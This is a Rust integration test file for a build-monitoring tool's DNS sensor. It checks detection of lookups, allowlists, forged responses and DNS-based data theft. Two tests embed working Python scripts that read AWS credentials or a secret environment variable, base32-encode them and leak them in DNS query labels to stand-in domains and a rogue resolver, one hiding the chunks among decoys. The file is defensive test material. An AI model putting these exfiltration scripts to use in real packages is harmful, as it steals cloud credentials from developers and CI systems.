//! The DNS sensor against a real resolver: dnsmasq serving a test zone on loopback addresses
//! the test picks (nothing is forwarded: it has no upstream). Lookups go through glibc, python
//! and dig, over UDP and TCP, IPv4 and IPv6. The watched command runs in a private mount
//! namespace whose /etc/resolv.conf names that dnsmasq, so the machine's own resolver is never
//! asked.

use std::fs;

use buildwatch_tests::{
    dnsmasq::{Dnsmasq, RESOLVER, ROGUE, SVC_ADDR, resolv_ns},
    *,
};
use serde_json::Value;

fn dns_events<'a>(evs: &'a [Value], direction: &'a str) -> impl Iterator<Item = &'a Value> {
    evs.iter()
        .filter(move |e| e["kind"] == "dns" && e["dns"]["direction"] == direction)
}

fn categories(w: &Watched, category: &str) -> Vec<String> {
    w.report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| {
            let parts = f["parts"].as_array().cloned().unwrap_or_default();
            std::iter::once(f.clone()).chain(parts)
        })
        .filter(|f| f["category"] == category)
        .map(|f| f["rule"].as_str().unwrap().to_owned())
        .collect()
}

fn watch_dns(tmp: &TempDir, extra: &[&str], script: &str) -> Watched {
    let ns = resolv_ns(tmp);
    let ns: Vec<&str> = ns.iter().map(String::as_str).collect();
    let w = watch_via(tmp, tmp.path(), &[], &ns, extra, &["sh", "-c", script]);
    // Everything a run sent stayed on loopback.
    for e in w
        .events()
        .iter()
        .filter(|e| e["kind"] == "connect" || e["kind"] == "send")
    {
        let d = if e["kind"] == "connect" {
            &e["connect"]
        } else {
            &e["send"]
        };
        if let Some(a) = d["address"].as_str() {
            let ip: std::net::IpAddr = a.parse().unwrap();
            assert!(ip.is_loopback(), "traffic left loopback: {e}");
        }
    }
    w
}

#[test]
fn lookups_over_udp_tcp_v4_v6_are_seen_and_name_the_connect() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("dns-lookups");
    let _dns = Dnsmasq::start(&tmp);
    let listener = EchoListener::start(&format!("{SVC_ADDR}:0"), 4);
    let port = listener.addr.port();
    let py = format!(
        "import socket\n\
         ai = socket.getaddrinfo('py.svc.test', {port}, socket.AF_INET, socket.SOCK_STREAM)\n\
         s = socket.create_connection(ai[0][4], timeout=5)\n\
         s.sendall(b'hi'); s.recv(2); s.close()\n"
    );
    fs::write(tmp.join("lookup.py"), py).unwrap();
    let script = format!(
        "getent ahostsv4 glibc.svc.test >/dev/null && \
         dig +short +time=2 +tries=1 udp.svc.test && \
         dig +short +tcp +time=2 +tries=1 tcp.svc.test && \
         dig +short +time=2 +tries=1 @::1 v6.svc.test AAAA && \
         python3 {}",
        tmp.join("lookup.py").display()
    );
    let w = watch_dns(&tmp, &[], &script);
    assert_eq!(w.out.status.code(), Some(0), "{}", w.stderr());
    let evs = w.events();
    let queries: Vec<&Value> = dns_events(&evs, "query").collect();
    let q = |name: &str| {
        queries
            .iter()
            .find(|e| e["dns"]["qname"] == name)
            .unwrap_or_else(|| panic!("no query for {name}: {queries:#?}"))
    };
    assert_eq!(q("glibc.svc.test")["exe"], "/usr/bin/getent");
    assert_eq!(q("glibc.svc.test")["dns"]["resolver"], RESOLVER);
    assert_eq!(q("udp.svc.test")["dns"]["protocol"], "udp");
    assert_eq!(q("tcp.svc.test")["dns"]["protocol"], "tcp");
    assert_eq!(q("v6.svc.test")["dns"]["resolver"], "::1");
    assert_eq!(q("v6.svc.test")["dns"]["qtype"], "AAAA");
    assert!(
        q("py.svc.test")["exe"]
            .as_str()
            .unwrap()
            .contains("python3")
    );
    // Responses carry the answers and go to the process that asked.
    let resp = |name: &str| {
        dns_events(&evs, "response")
            .find(|e| e["dns"]["qname"] == name)
            .unwrap_or_else(|| panic!("no response for {name}"))
            .clone()
    };
    let r = resp("tcp.svc.test");
    assert_eq!(r["dns"]["rcode"], "NOERROR");
    assert_eq!(r["dns"]["answers"][0]["data"], SVC_ADDR);
    assert_eq!(r["pid"], q("tcp.svc.test")["pid"]);
    assert_eq!(resp("v6.svc.test")["dns"]["answers"][0]["data"], "::1");
    assert_eq!(resp("udp.svc.test")["pid"], q("udp.svc.test")["pid"]);
    // The connect after the lookup carries the name, and so does the egress list.
    let conn = evs
        .iter()
        .find(|e| e["kind"] == "connect" && e["connect"]["port"] == port)
        .expect("python's connect");
    assert_eq!(conn["connect"]["domain"], "py.svc.test");
    let egress = w.report["egress"].as_array().unwrap();
    let row = egress
        .iter()
        .find(|e| e["port"] == port)
        .expect("egress row");
    assert_eq!(row["domains"], serde_json::json!(["py.svc.test"]));
    assert!(
        w.stderr()
            .contains(&format!("{SVC_ADDR}:{port} (py.svc.test) connect")),
        "the summary's egress table names the domain: {}",
        w.stderr()
    );
    assert!(
        categories(&w, "dns-exfil").is_empty(),
        "{:#?}",
        w.report["findings"]
    );
    assert_replay_matches(&w, tmp.path(), &[]);
}

#[test]
fn seed_exfiltration_through_dns_is_caught() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("dns-exfil");
    let _dns = Dnsmasq::start(&tmp);
    let home = tmp.join("home");
    fs::create_dir_all(home.join(".aws")).unwrap();
    fs::write(
        home.join(".aws/credentials"),
        "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n\
         aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n",
    )
    .unwrap();
    // What the backdoored postinstall does: read the credentials, base32 them, leak them in
    // 60-character labels through the system resolver, then once more straight to another
    // server in case the first is filtered.
    let py = format!(
        "import base64, socket\n\
         data = open('{}/.aws/credentials', 'rb').read()\n\
         enc = base64.b32encode(data).decode().rstrip('=').lower()\n\
         chunks = [enc[i:i+60] for i in range(0, len(enc), 60)]\n\
         for n, c in enumerate(chunks):\n\
         \x20   try: socket.getaddrinfo(f'{{c}}.{{n}}.exfil.test', 443, socket.AF_INET)\n\
         \x20   except socket.gaierror: pass\n\
         q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'\n\
         for label in (chunks[0].encode(), b'direct', b'exfil', b'test'):\n\
         \x20   q += bytes([len(label)]) + label\n\
         q += b'\\x00\\x00\\x10\\x00\\x01'\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)\n\
         s.sendto(q, ('{ROGUE}', 53))\n\
         try: s.recv(512)\n\
         except OSError: pass\n",
        home.display()
    );
    fs::write(tmp.join("postinstall.py"), py).unwrap();
    let script = format!("python3 {}", tmp.join("postinstall.py").display());
    let w = watch_dns(&tmp, &[], &script);
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    let exfil = categories(&w, "dns-exfil");
    for rule in [
        "dns-long-label",
        "dns-encoded-label",
        "dns-unconfigured-resolver",
    ] {
        assert!(
            exfil.contains(&rule.to_owned()),
            "{rule} missing from {exfil:?}"
        );
    }
    let enc = w.finding("dns-encoded-label");
    let whole = w.finding_with("dns-encoded-label");
    assert!(
        enc["message"]
            .as_str()
            .unwrap()
            .contains("base32-encoded labels under exfil.test"),
        "{enc}"
    );
    // The whole name is in the report; the terminal shows it shortened.
    let qname = whole["detail"]["qname"].as_str().unwrap();
    assert!(
        qname.ends_with(".0.exfil.test") && qname.len() > 70,
        "{qname}"
    );
    assert!(w.stderr().contains("…"), "{}", w.stderr());
    assert!(
        !w.stderr().contains(qname),
        "the terminal line is shortened"
    );
    // A finding of its own or a part of the query's: its message names the resolver.
    let rogue = w.finding("dns-unconfigured-resolver");
    assert!(
        rogue["message"].as_str().unwrap().contains(ROGUE),
        "{rogue}"
    );
    assert!(w.rules().contains(&"sensitive-file-read".to_owned()));
    // Every chunk was seen: the encoded-label finding counts each query.
    assert!(enc["count"].as_u64().unwrap() >= 3, "{enc}");
    assert!(whole["count"].as_u64().unwrap() >= 3, "{whole}");
    assert_replay_matches(&w, tmp.path(), &[]);
}

#[test]
fn benign_lookups_and_the_domain_allowlist() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("dns-benign");
    let _dns = Dnsmasq::start(&tmp);
    let named = EchoListener::start(&format!("{SVC_ADDR}:0"), 4);
    let hard = EchoListener::start("127.0.0.6:0", 4);
    let names = [
        "registry.svc.test",
        "d1a2b3c4d5e6f7.cdn.svc.test",
        "0123456789abcdef0123456789abcdef.r2.svc.test",
        "a1b2c3d4e5f6a7b8c9d0.objects.svc.test",
        "my-team-build-artifacts-prod.s3.svc.test",
        "k8s-ingress-nginx-controller-7d9f8b6c5d-x2x9p.svc.test",
    ];
    let py = format!(
        "import socket\n\
         for n in {names:?}:\n\
         \x20   socket.getaddrinfo(n, 443, socket.AF_INET)\n\
         ai = socket.getaddrinfo('registry.svc.test', {p1}, socket.AF_INET, socket.SOCK_STREAM)\n\
         for addr in (ai[0][4], ('127.0.0.6', {p2})):\n\
         \x20   s = socket.create_connection(addr, timeout=5); s.sendall(b'x'); s.recv(1); s.close()\n",
        p1 = named.addr.port(),
        p2 = hard.addr.port(),
    );
    fs::write(tmp.join("build.py"), py).unwrap();
    let policy = tmp.join("policy.yaml");
    fs::write(
        &policy,
        "allow_loopback: false\nallow:\n  - \"**.svc.test\"\n",
    )
    .unwrap();
    let script = format!("python3 {}", tmp.join("build.py").display());
    let args = ["--policy", policy.to_str().unwrap()];
    let w = watch_dns(&tmp, &args, &script);
    assert!(
        categories(&w, "dns-exfil").is_empty(),
        "{:#?}",
        w.report["findings"]
    );
    // The named destination is allowed through its domain; the hard-coded one is not, and
    // is also an address nobody looked up. The DNS queries themselves are not egress findings.
    // One connection, one finding: both rules are on it (one as a part of the other).
    let unlisted = w.finding_with("egress-unlisted");
    assert_eq!(unlisted["detail"]["address"], "127.0.0.6");
    assert_eq!(unlisted["count"], 1, "{unlisted}");
    assert_eq!(
        w.finding_with("egress-unresolved-address")["detail"]["address"],
        "127.0.0.6"
    );
    let egress = w.report["egress"].as_array().unwrap();
    let row = |port: u16| egress.iter().find(|e| e["port"] == port).unwrap().clone();
    assert_eq!(row(named.addr.port())["allowed"], true);
    assert_eq!(
        row(named.addr.port())["domains"],
        serde_json::json!(["registry.svc.test"])
    );
    assert_eq!(row(hard.addr.port())["allowed"], false);
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    assert_replay_matches(&w, tmp.path(), &["--policy", policy.to_str().unwrap()]);
}

/// A DNS response nobody asked for (sent by the run to itself from port 53, as a raw socket
/// or a rogue local server would) names no address: the connect to its "answer" carries no
/// domain and is not allowed through the domain allowlist, and the response is a finding.
#[test]
fn a_forged_answer_names_no_address() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("dns-forge");
    let listener = std::net::TcpListener::bind("127.0.0.9:0").unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let policy = tmp.join("policy.yaml");
    fs::write(
        &policy,
        "allow_loopback: false\nallow:\n  - allowed.example.test\n",
    )
    .unwrap();
    let args = ["--policy", policy.to_str().unwrap()];
    let trigger = env!("CARGO_BIN_EXE_bw-trigger");
    let cmd = [
        trigger,
        "dns-forge",
        "allowed.example.test",
        "127.0.0.9",
        &port,
    ];
    let w = watch(&tmp, tmp.path(), &[], &args, &cmd);
    let evs = w.events();
    // The copy the client received (it asked nothing).
    let resp = dns_events(&evs, "response")
        .find(|e| e["dns"]["unsolicited"] == true)
        .unwrap_or_else(|| panic!("no unsolicited DNS response: {}", w.stderr()));
    assert_eq!(resp["dns"]["answers"][0]["data"], "127.0.0.9");
    let connect = evs
        .iter()
        .find(|e| e["kind"] == "connect" && e["connect"]["address"] == "127.0.0.9")
        .unwrap_or_else(|| panic!("no connect: {}", w.stderr()));
    assert!(connect["connect"].get("domain").is_none(), "{connect:#}");
    assert_eq!(w.finding("dns-unsolicited-response")["severity"], "high");
    let egress = w.report["egress"].as_array().unwrap();
    let row = egress
        .iter()
        .find(|e| e["address"] == "127.0.0.9")
        .unwrap_or_else(|| panic!("no egress row for 127.0.0.9: {egress:#?}"));
    assert_eq!(row["allowed"], false, "{row:#}");
    assert!(
        row.get("domains")
            .is_none_or(|d| d.as_array().unwrap().is_empty()),
        "{row:#}"
    );
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    assert_replay_matches(&w, tmp.path(), &args);
    drop(listener);
}

/// The seed's own leak, slow: a fake AWS_SECRET_ACCESS_KEY in buildwatch's environment (the
/// CI's secrets are there, and the command inherits them), sent base32-encoded in 16-character
/// labels spread over 30 queries among decoys, and in 6-character labels no single query
/// holds enough of. Both are `secret-exfil`, naming the variable; the value itself appears in
/// no output.
#[test]
fn a_secret_leaked_in_short_dns_labels_is_found_and_never_shown() {
    if !require_bpf() {
        return;
    }
    const SECRET: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYFAKEKEY0001";
    let tmp = TempDir::new("dns-secret");
    let _dns = Dnsmasq::start(&tmp);
    let py = "import os, base64, random, socket\n\
              v = os.environ['AWS_SECRET_ACCESS_KEY'].encode()\n\
              enc = base64.b32encode(v).decode().rstrip('=').lower()\n\
              def ask(n):\n\
              \x20   try: socket.getaddrinfo(n, 80, socket.AF_INET)\n\
              \x20   except OSError: pass\n\
              chunks = [enc[i:i+16] for i in range(0, len(enc), 16)]\n\
              rnd = random.Random(7)\n\
              c = 0\n\
              for i in range(30):\n\
              \x20   if i % 7 == 3 and c < len(chunks):\n\
              \x20       label = chunks[c]; c += 1\n\
              \x20   else:\n\
              \x20       label = ''.join(rnd.choice('abcdefghijklmnopqrstuvwxyz234567') for _ in range(16))\n\
              \x20   ask(f'{label}.{i}.leak.test')\n\
              for i in range(0, len(enc), 6):\n\
              \x20   ask(f'{enc[i:i+6]}.{i}.drip.test')\n";
    fs::write(tmp.join("leak.py"), py).unwrap();
    let ns = resolv_ns(&tmp);
    let ns: Vec<&str> = ns.iter().map(String::as_str).collect();
    let w = watch_via(
        &tmp,
        tmp.path(),
        &[("AWS_SECRET_ACCESS_KEY", SECRET.to_owned())],
        &ns,
        &[],
        &["python3", tmp.join("leak.py").to_str().unwrap()],
    );
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    let evs = w.events();
    let queries = dns_events(&evs, "query")
        .filter(|e| {
            e["dns"]["qname"]
                .as_str()
                .is_some_and(|q| q.ends_with(".leak.test") || q.ends_with(".drip.test"))
        })
        .count();
    assert!(
        queries >= 30 + 11,
        "the queries were not all seen: {queries}"
    );
    let found: Vec<&Value> = w.report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "secret-exfil")
        .collect();
    for domain in ["leak.test", "drip.test"] {
        let f = found
            .iter()
            .find(|f| {
                f["message"]
                    .as_str()
                    .unwrap()
                    .ends_with(&format!("to {domain}"))
            })
            .unwrap_or_else(|| panic!("no secret-exfil for {domain}: {:#?}", w.report["findings"]));
        assert_eq!(f["severity"], "critical");
        assert!(
            f["message"]
                .as_str()
                .unwrap()
                .contains("the value of AWS_SECRET_ACCESS_KEY"),
            "{f:#}"
        );
    }
    // The queries that carried it are published redacted, and no piece of its encoding long
    // enough to hold a match is left anywhere.
    let redacted = dns_events(&evs, "query")
        .filter(|e| e["dns"]["qname"] == "<redacted:AWS_SECRET_ACCESS_KEY>.leak.test")
        .count();
    assert!(redacted >= 4, "{redacted} redacted queries");
    let enc = base32_lower(SECRET.as_bytes());
    let events_text = fs::read_to_string(tmp.join("events.jsonl")).unwrap();
    let report_text = fs::read_to_string(tmp.join("report.json")).unwrap();
    for chunk in enc.as_bytes().chunks(16).filter(|c| c.len() == 16) {
        let chunk = std::str::from_utf8(chunk).unwrap();
        assert!(!events_text.contains(chunk), "{chunk} is in the events");
        assert!(!report_text.contains(chunk), "{chunk} is in the report");
    }
    // The value is in no output: events, report, terminal.
    for (what, text) in [
        (
            "events",
            fs::read_to_string(tmp.join("events.jsonl")).unwrap(),
        ),
        (
            "report",
            fs::read_to_string(tmp.join("report.json")).unwrap(),
        ),
        ("stderr", w.stderr()),
        (
            "stdout",
            String::from_utf8_lossy(&w.out.stdout).into_owned(),
        ),
    ] {
        assert!(!text.contains(SECRET), "the secret is in the {what}");
        assert!(
            !text.contains(&SECRET[..16]),
            "part of the secret is in the {what}"
        );
    }
    // A replay, with no secret to look for, reports the same from the stream's markers.
    assert_replay_matches(&w, tmp.path(), &[]);
}

/// RFC 4648 base32, lowercase, without padding (what the leak script sends).
fn base32_lower(v: &[u8]) -> String {
    const T: &[u8; 32] = b"abcdefghijklmnopqrstuvwxyz234567";
    let (mut out, mut acc, mut bits) = (String::new(), 0u64, 0u32);
    for &b in v {
        acc = (acc << 8) | u64::from(b);
        bits += 8;
        while bits >= 5 {
            bits -= 5;
            out.push(T[((acc >> bits) & 31) as usize] as char);
        }
    }
    if bits > 0 {
        out.push(T[((acc << (5 - bits)) & 31) as usize] as char);
    }
    out
}
